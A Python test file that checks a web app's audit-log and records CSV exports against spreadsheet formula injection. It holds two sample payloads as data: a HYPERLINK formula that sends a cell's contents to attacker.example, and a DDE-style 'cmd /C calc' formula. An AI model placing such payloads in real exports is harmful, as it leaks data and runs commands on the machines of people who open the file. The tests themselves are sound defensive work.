"""The web's CSV exports (audit log, records) hold no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from athar.accounts.organisations import ensure_organisation
from athar.ingest.importer import import_file
from tests.web.conftest import BASE_URL, client_for, login

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def test_a_failed_sign_in_with_a_formula_for_a_name_is_neutralised_in_the_audit_export(app):
    login(TestClient(app, base_url=BASE_URL), FORMULA_NAME, "wrong")
    export = client_for(app, "admin-alpha").get("/audit/export.csv")
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_records_export_neutralises_formula_cells(app, tmp_path):
    listing = tmp_path / "formulas.csv"
    listing.write_text("record_id,full_name\n1,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n2,-2+3\n", "utf-8")
    with app.state.engine.begin() as conn:
        alpha = ensure_organisation(conn, "Alpha")
    import_file(app.state.engine, listing, "formula-list", organisation_id=alpha)
    export = client_for(app, "investigator-alpha").get("/export/records.csv")
    text = export.content.decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["source"] == "formula-list"]
    assert sorted(r["full_name"] for r in rows) == ["'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"]
